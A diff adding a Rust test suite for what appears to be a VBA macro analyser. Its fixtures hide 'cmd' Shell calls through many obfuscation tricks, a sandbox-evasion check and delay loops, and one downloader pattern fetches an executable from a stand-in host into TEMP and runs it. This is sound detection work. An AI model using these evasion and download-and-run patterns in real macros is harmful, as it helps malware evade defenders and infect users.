@@ -1,0 +1,260 @@
+//! What running macros shows: the classical ways to hide a text, and lookalikes that do nothing.
+
+use super::*;
+use crate::budget::{Budget, Limits};
+use crate::languages::surroundings::{Cell, Shape, Sheet};
+use crate::languages::{Action, ActionKind};
+
+fn around() -> Surroundings {
+    let control = |name: &str, properties: &[(&'static str, &str)]| Control {
+        owner: "UserForm1".into(),
+        name: name.into(),
+        class: "Forms.Label.1".into(),
+        properties: properties.iter().map(|(name, value)| (*name, (*value).to_owned())).collect(),
+    };
+    let cells = [((1, 1), Cell::Text("cmd /c cell".into())), ((2, 1), Cell::Number(99.0)), ((3, 1), Cell::Number(109.0))];
+    Surroundings {
+        controls: vec![
+            control("Label1", &[("caption", "cmd /c caption"), ("tag", "cmd /c tag")]),
+            control("UserForm1", &[("tag", "cmd /c form")]),
+        ],
+        variables: vec![("x".into(), "cmd /c variable".into())],
+        properties: vec![("Comments".into(), "cmd /c comments".into())],
+        shapes: vec![Shape {
+            name: "Picture 1".into(),
+            title: "cmd /c title".into(),
+            alternative: "cmd /c alternative".into(),
+            text: "cmd /c text".into(),
+            ..Shape::default()
+        }],
+        sheets: vec![Sheet { name: "Data".into(), code_name: "Sheet1".into(), cells: cells.into_iter().collect() }],
+        names: vec![("secret".into(), "Data!$A$1".into())],
+        bookmarks: vec![("mark".into(), "cmd /c bookmark".into())],
+        paragraphs: vec!["first".into(), "cmd /c paragraph".into()],
+        custom_xml: vec!["<a>cmd</a>".into()],
+    }
+}
+
+fn all(modules: &[(&str, ModuleKind, &str)]) -> Vec<Action> {
+    let modules: Vec<Module> = modules
+        .iter()
+        .map(|(name, kind, source)| Module {
+            name: (*name).to_owned(),
+            path: format!("VBA/{name}"),
+            kind: *kind,
+            source: (*source).to_owned(),
+        })
+        .collect();
+    let project = Project { modules, controls: Vec::new() };
+    let (behaviour, result) = analyse(&project, &around(), &Budget::new(Limits::default(), |_| ()));
+    result.unwrap();
+    behaviour.actions
+}
+
+fn details(kind: ActionKind, source: &str) -> Vec<String> {
+    all(&[("M", ModuleKind::Standard, source)])
+        .into_iter()
+        .filter(|action| action.kind == kind && action.reached_by.is_some())
+        .map(|action| action.detail)
+        .collect()
+}
+
+fn opened(body: &str) -> String {
+    format!("Sub AutoOpen()\n{body}\nEnd Sub\n")
+}
+
+fn runs(body: &str) -> Vec<String> {
+    details(ActionKind::Run, &opened(body))
+}
+
+#[test]
+fn ways_to_hide_a_text() {
+    let table: &[(&str, &str)] = &[
+        ("Shell Chr(99) & Chr(&H6D) & Chr$(100) & \" /c x\"", "cmd /c x"),
+        ("Shell Replace(\"cZZmZZd /c x\", \"ZZ\", \"\")", "cmd /c x"),
+        ("t = \"c1m2d3 4/5c6 7x\"\nFor i = 1 To Len(t) Step 2\ns = s & Mid(t, i, 1)\nNext\nShell s", "cmd /c x"),
+        ("k = Array(1, 2, 3)\na = Array(98, 111, 103)\nFor i = 0 To UBound(a)\ns = s & Chr(a(i) Xor k(i Mod 3))\nNext i\nShell s", "cmd"),
+        ("Shell StrReverse(\"x c/ dmc\")", "cmd /c x"),
+        ("For Each n In Array(99, 109, 100)\ns = s + Chr(n)\nNext\nShell s", "cmd"),
+        ("Shell Join(Split(\"c#m#d\", \"#\"), \"\")", "cmd"),
+        ("p = Split(\"99,109,100\", \",\")\nFor i = LBound(p) To UBound(p)\ns = s & Chr(CInt(p(i)))\nNext\nShell s", "cmd"),
+        ("h = \"636D64\"\nDo While Len(h) > 0\ns = s & Chr(CLng(\"&H\" & Left(h, 2)))\nh = Mid(h, 3)\nLoop\nShell s", "cmd"),
+        ("Dim b(2) As Byte\nb(0) = 99: b(1) = 109: b(2) = 100\nShell StrConv(b, vbUnicode)", "cmd"),
+        ("Dim b() As Byte\nb = StrConv(\"dne\", vbFromUnicode)\nFor i = 0 To UBound(b): b(i) = b(i) - 1: Next\nShell StrConv(b, 64)", "cmd"),
+        ("s = Space(3)\nMid(s, 1, 1) = \"c\"\nMid$(s, 2) = \"md\"\nShell s", "cmd"),
+        ("Shell UserForm1.Label1.Caption", "cmd /c caption"),
+        ("Shell UserForm1.Label1.Tag", "cmd /c tag"),
+        ("Shell UserForm1.Tag", "cmd /c form"),
+        ("Shell UserForm1.Controls(\"Label1\").Caption", "cmd /c caption"),
+        ("Shell ActiveDocument.Variables(\"x\").Value", "cmd /c variable"),
+        ("Shell ActiveDocument.Variables(\"x\")", "cmd /c variable"),
+        ("Shell ActiveDocument.BuiltInDocumentProperties(\"Comments\")", "cmd /c comments"),
+        ("Shell ThisWorkbook.BuiltinDocumentProperties(\"Comments\").Value", "cmd /c comments"),
+        ("Shell Worksheets(\"Data\").Range(\"A1\").Value", "cmd /c cell"),
+        ("Shell Sheet1.Cells(1, 1)", "cmd /c cell"),
+        ("Shell Sheets(1).Range(\"$A$1\").Value2", "cmd /c cell"),
+        ("Shell [secret]", "cmd /c cell"),
+        ("Shell Range(\"secret\")", "cmd /c cell"),
+        ("For r = 2 To 3\ns = s & Chr(Sheet1.Cells(r, 1).Value)\nNext\nShell s & \"d\"", "cmd"),
+        ("For Each c In Sheet1.Range(\"A2:A3\")\ns = s & Chr(c.Value)\nNext\nShell s & \"d\"", "cmd"),
+        ("Shell ActiveDocument.Shapes(\"Picture 1\").AlternativeText", "cmd /c alternative"),
+        ("Shell ActiveDocument.Shapes(1).TextFrame.TextRange.Text", "cmd /c text"),
+        ("Shell ActiveDocument.InlineShapes(1).Title", "cmd /c title"),
+        ("Shell ActiveDocument.Bookmarks(\"mark\").Range.Text", "cmd /c bookmark"),
+        ("Shell Replace(ActiveDocument.Paragraphs(2).Range.Text, vbCr, \"\")", "cmd /c paragraph"),
+        ("Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"a\", \"cmd\"\nd(\"b\") = \" /c x\"\nShell d(\"a\") & d.Item(\"b\")", "cmd /c x"),
+        ("Dim c As New Collection\nc.Add \"cmd\"\nc.Add \" x\", \"k\"\nShell c(1) & c(\"k\")", "cmd x"),
+        ("n = 3\nSelect Case n\nCase 1, 2: s = \"no\"\nCase 3 To 5: s = \"cmd\"\nCase Else: s = \"x\"\nEnd Select\nShell s", "cmd"),
+        ("n = 0\na:\nn = n + 1\nIf n = 1 Then GoTo b\nIf n = 2 Then GoTo c\nGoTo d\nb:\ns = s & \"cm\"\nGoTo a\nc:\ns = s & \"d\"\nGoTo a\nd:\nShell s", "cmd"),
+        ("If Environ(\"USERNAME\") = \"sandbox\" Then Exit Sub\nShell \"cmd\" & Chr(47)", "cmd/"),
+        ("x = Application.Version\nIf x > 10 Then\ns = Chr(99) & \"md\"\nShell s\nEnd If", "cmd"),
+        ("Cells(5, 5) = \"cmd\"\nShell Cells(5, 5).Value & \" x\"", "cmd x"),
+        ("With CreateObject(\"Microsoft.XMLDOM\").createElement(\"b\")\n.DataType = \"bin.base64\"\n.Text = \"Y21kIC9jIHg=\"\nShell StrConv(.nodeTypedValue, vbUnicode)\nEnd With", "cmd /c x"),
+        ("Set d = CreateObject(\"MSXML2.DOMDocument\")\nSet n = d.createElement(\"b\")\nn.dataType = \"bin.hex\"\nn.Text = \"636d64\"\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write n.nodeTypedValue\ns.Position = 0\ns.Type = 2\ns.Charset = \"us-ascii\"\nShell s.ReadText", "cmd"),
+        ("s = \"cmd\"\nCallByName CreateObject(\"WScript\" & Chr(46) & \"Shell\"), StrReverse(\"nuR\"), 1, s & \" x\"", "cmd x"),
+        ("Dim w: Set w = CreateObject(\"WScript.Shell\")\nw.Run w.ExpandEnvironmentStrings(\"%TEMP%\") & \"\\a.exe\"", "%TEMP%\\a.exe"),
+        ("For i = 1 To 100000000\nDoEvents\nNext\nShell \"cm\" & Chr(100)", "cmd"),
+        ("On Error GoTo hit\nx = 1 / 0\nShell \"no\"\nExit Sub\nhit:\nShell \"cm\" & Chr(100)", "cmd"),
+        ("s = \"cm\" _\n & \"d\"\nShell (s)", "cmd"),
+        ("Dim a(1 To 2, 0 To 1)\na(1, 0) = \"c\": a(2, 1) = \"md\"\nShell a(1, 0) & a(2, 1)", "cmd"),
+        ("v = Val(\"&H63\")\nShell ChrW(v) & ChrW(109) & ChrW(&H64)", "cmd"),
+        ("Shell IIf(1 = 1, \"cmd\", \"x\") & Switch(False, 1, True, 2) & Choose(2, 5, 6)", "cmd26"),
+        ("Shell Format(\"cmd\") & LCase(\"X\") & Trim(\"  y \")", "cmdxy"),
+        ("While i < 3\ns = s & Mid$(\"cmd\", i + 1, 1)\ni = i + 1\nWend\nShell s", "cmd"),
+    ];
+    let wrong: Vec<String> = table
+        .iter()
+        .filter_map(|(body, expected)| {
+            let found = runs(body);
+            (!found.iter().any(|detail| detail == expected)).then(|| format!("{body}\n-> {found:?}, not {expected}\n"))
+        })
+        .collect();
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+const BASE64: &str = "Function Decode(ByVal s As String) As String\n\
+Const b = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"\n\
+Dim n As Long, g As Long, i As Long, j As Long, c As String, o As String, p As Integer\n\
+For n = 1 To Len(s) Step 4\np = 3: g = 0\nFor j = 0 To 3\nc = Mid$(s, n + j, 1)\nIf c = \"=\" Then\np = p - 1: i = 0\n\
+Else\ni = InStr(1, b, c, vbBinaryCompare) - 1\nEnd If\nIf i = -1 Then Exit Function\ng = 64 * g + i\nNext\n\
+c = Hex(g)\nc = String(6 - Len(c), \"0\") & c\n\
+o = o & Left(Chr(CByte(\"&H\" & Mid(c, 1, 2))) + Chr(CByte(\"&H\" & Mid(c, 3, 2))) + Chr(CByte(\"&H\" & Mid(c, 5, 2))), p)\n\
+Next n\nDecode = o\nEnd Function\n";
+
+#[test]
+fn functions_that_decode() {
+    let xor = "Function X(d, k)\nFor i = 1 To Len(d) Step 2\nX = X & Chr(Val(\"&H\" & Mid(d, i, 2)) Xor Asc(Mid(k, ((i \\ 2) Mod Len(k)) + 1, 1)))\nNext\nEnd Function\n";
+    let shift = "Private Function S(t As String, n As Integer) As String\nDim c As Variant, r\nFor p = 1 To Len(t)\nr = r & Chr$(Asc(Mid$(t, p, 1)) - n)\nNext\nLet S = r\nEnd Function\n";
+    let by_ref = "Sub Add(ByRef s As String, c)\ns = s & Chr(c)\nEnd Sub\n";
+    let list = "Function L(ParamArray n())\nFor Each c In n\nL = L & ChrW(c)\nNext\nEnd Function\n";
+    let recursive = "Function R(s)\nIf Len(s) > 1 Then R = R(Mid(s, 2)) & Left(s, 1) Else R = s\nEnd Function\n";
+    let record = "Private Type P\nname As String\nn(3) As Byte\nEnd Type\n";
+    let table: &[(&str, &str, &str)] = &[
+        (BASE64, "Shell Decode(\"Y21kIC9jIHg=\")", "cmd /c x"),
+        (xor, "Shell X(\"020F06\", \"abb\")", "cmd"),
+        (shift, "Shell S(\"fpg\", 3)", "cmd"),
+        (by_ref, "Dim t As String\nAdd t, 99\nCall Add(t, 109)\nAdd c:=100, s:=t\nShell t", "cmd"),
+        (list, "Shell L(99, 109, 100)", "cmd"),
+        (recursive, "Shell R(\"dmc\")", "cmd"),
+        (record, "Dim a As P, b(2) As P\na.name = \"cm\"\na.n(1) = 100\nb(1).name = \"x\"\nWith a\n.name = .name & Chr(.n(1))\nEnd With\nShell a.name & b(1).name", "cmdx"),
+        ("Const A = \"cm\", B = A & \"d\"\nEnum E\none = 99\ntwo\nEnd Enum\nPublic g\nSub Make()\ng = B & Chr(two)\nEnd Sub\n", "Make\nShell g", "cmdd"),
+        ("Function F(Optional a = \"cmd\", Optional b)\nIf IsMissing(b) Then F = a Else F = b\nEnd Function\n", "Shell F & F(b:=\"x\")", "cmdx"),
+        ("Sub Later()\nShell \"cm\" & Chr(100)\nEnd Sub\n", "Application.OnTime Now + TimeValue(\"00:00:05\"), \"Lat\" & \"er\"", "cmd"),
+        ("Function Id(x)\nStatic n\nn = n + 1\nId = x & n\nEnd Function\n", "Id 1\nShell Id(\"cmd\")", "cmd2"),
+    ];
+    for (other, body, expected) in table {
+        let found = details(ActionKind::Run, &format!("{other}{}", reorder(other, body)));
+        assert!(found.iter().any(|detail| detail == expected), "{body}\n-> {found:?}, not {expected}");
+    }
+}
+
+/// Declarations stand before procedures as they are; the entry follows.
+fn reorder(_other: &str, body: &str) -> String {
+    opened(body)
+}
+
+#[test]
+fn classes_and_forms() {
+    let class = "Private k As String\nPublic Text As String\nPrivate Sub Class_Initialize()\nk = \"cm\"\nEnd Sub\n\
+                 Property Get Out() As String\nOut = k & Text\nEnd Property\nProperty Let Key(v)\nk = k & v\nEnd Property\n";
+    let main = opened("Dim o As New C, p As Object\nSet p = New C\no.Key = \"d\"\no.Text = \" x\"\nShell o.Out\nShell p.Out & \"!\"");
+    let found = all(&[("M", ModuleKind::Standard, &main), ("C", ModuleKind::Class, class)]);
+    let details: Vec<&str> = found.iter().map(|action| action.detail.as_str()).collect();
+    assert_eq!(details, ["cmd x", "cm!"]);
+    let form = "Private Sub UserForm_Initialize()\nShell Label1.Caption\nEnd Sub";
+    let found = all(&[("M", ModuleKind::Standard, &opened("UserForm1.Show")), ("UserForm1", ModuleKind::Form, form)]);
+    assert_eq!(found[0].detail, "cmd /c caption");
+}
+
+#[test]
+fn what_is_fetched_stored_and_kept() {
+    let body = "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nu = StrReverse(\"x/elpmaxe.a//:ptth\")\nh.Open \"GET\", u, False\nh.Send\n\
+                Set s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.Type = 1\ns.Write h.responseBody\ns.SaveToFile Environ(\"TEMP\") & \"\\a.exe\", 2\n\
+                CreateObject(\"WScript.Shell\").Run Environ(\"TEMP\") & \"\\a.exe\"";
+    let found = all(&[("M", ModuleKind::Standard, &opened(body))]);
+    let shown: Vec<(ActionKind, &str)> = found.iter().map(|action| (action.kind, action.detail.as_str())).collect();
+    assert_eq!(
+        shown,
+        [
+            (ActionKind::Fetch, "http://a.example/x"),
+            (ActionKind::Download, "http://a.example/x %TEMP%\\a.exe"),
+            (ActionKind::Run, "%TEMP%\\a.exe"),
+        ]
+    );
+}
+
+#[test]
+fn branches_nobody_knows() {
+    // Both are seen; what they leave different is not known.
+    let found = runs("If Rnd > 0.5 Then\ns = \"a.exe\"\nShell s & \" 1\"\nElse\ns = \"b.exe\"\nShell s & \" 2\"\nEnd If\nShell s");
+    assert_eq!(found, ["a.exe 1", "b.exe 2", "…"]);
+    let found = runs("s = \"cmd\"\nFor i = 1 To Rnd * 5\nShell s & \"!\"\ns = s & \"x\"\nNext\nShell s");
+    assert_eq!(found[0], "cmd!");
+    assert_eq!(found.last().unwrap(), "…");
+    // Dead code is not run, but it is still there.
+    let found = runs("If 1 = 2 Then\nShell \"dead.exe\"\nEnd If\nShell \"cm\" & Chr(100)");
+    assert_eq!(found, ["cmd", "dead.exe"]);
+}
+
+#[test]
+fn honest_lookalikes() {
+    let book = "Private Sub Workbook_Open()\nDim fso As Object, f, r As Long\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\n\
+        p = ThisWorkbook.Path & \"\\出力.csv\"\nOpen p For Output As #1\nFor r = 1 To 3\nPrint #1, Sheet1.Cells(r, 1).Value; \",\"; r\nNext\nClose #1\n\
+        Set f = fso.CreateTextFile(p & \".txt\", True)\nf.WriteLine \"日報\"\nf.Close\n\
+        Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"Provider=SQLOLEDB;Data Source=db\"\nSet rs = CreateObject(\"ADODB.Recordset\")\n\
+        rs.Open \"SELECT * FROM t\", c\nDo Until rs.EOF\nCells(r, 1) = rs!Name\nr = r + 1\nrs.MoveNext\nLoop\n\
+        kinds = Array(\"Scripting.Dictionary\", \"ADODB.Recordset\")\nFor Each k In kinds\nSet o = CreateObject(k)\nNext\n\
+        Shell \"notepad.exe \" & p, vbNormalFocus\nEnd Sub\n";
+    let found = all(&[("ThisWorkbook", ModuleKind::Document, book)]);
+    let grave = [ActionKind::Run, ActionKind::Inject, ActionKind::Hidden, ActionKind::Indirect, ActionKind::Download];
+    assert!(found.iter().all(|action| !grave.contains(&action.kind)), "{found:?}");
+    // Two names, one of them hidden in a branch that may be taken.
+    let hidden = "k = \"Scripting.Dictionary\"\nIf Rnd > 0.5 Then k = Range(\"Z9\").Offset(x).Value\nSet o = CreateObject(k)";
+    assert_eq!(details(ActionKind::Hidden, &opened(hidden)).len(), 1);
+}
+
+#[test]
+fn hostile_programs_end() {
+    let deep: String = (0..200).map(|i| format!("Sub p{i}()\nIf Rnd Then p{} Else p{}\nEnd Sub\n", (i + 1) % 200, (i * 7) % 200)).collect();
+    let all_of_them = [
+        opened("Do\nLoop\nShell \"x.exe\""),
+        opened("Do\ns = s & \"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\"\nLoop\nShell \"x.exe\""),
+        opened("a:\nGoTo a\nShell \"x.exe\""),
+        opened("For i = 1 To 1000000\nFor j = 1 To 1000000\nReDim a(100000)\nNext\nNext\nShell \"x.exe\""),
+        format!("{}Sub F(n)\nF n + 1\nF n + 2\nEnd Sub\n", opened("F 1\nShell \"x.exe\"")),
+        format!("{}{deep}", opened("p0\nShell \"x.exe\"")),
+        opened(&format!("{}Shell \"x.exe\"\n{}", "If Rnd Then\n".repeat(3000), "End If\n".repeat(3000))),
+        opened(&format!("Shell {}\"x.exe\"{}", "(".repeat(3000), ")".repeat(3000))),
+        opened(&format!("{}Shell \"x.exe\"\n{}", "For i = 1 To Rnd\n".repeat(30), "Next\n".repeat(30))),
+        opened("s = \"x\"\nFor i = 1 To 64\ns = s & s\nNext\nShell \"x.exe\""),
+        opened("Dim a(1 To 1000, 1 To 1000, 1 To 1000)\nx = String(100000000, \"x\")\nShell \"x.exe\""),
+        opened("Dim k As New Collection\nDo\nk.Add k\nLoop\nShell \"x.exe\""),
+    ];
+    for source in all_of_them {
+        let start = std::time::Instant::now();
+        eprintln!("{}", &source[..60.min(source.len())]);
+        let found = all(&[("M", ModuleKind::Standard, &source)]);
+        assert!(found.iter().any(|action| action.kind == ActionKind::Run), "{}", &source[..80.min(source.len())]);
+        assert!(start.elapsed().as_secs() < 20, "{}", &source[..80.min(source.len())]);
+    }
+}
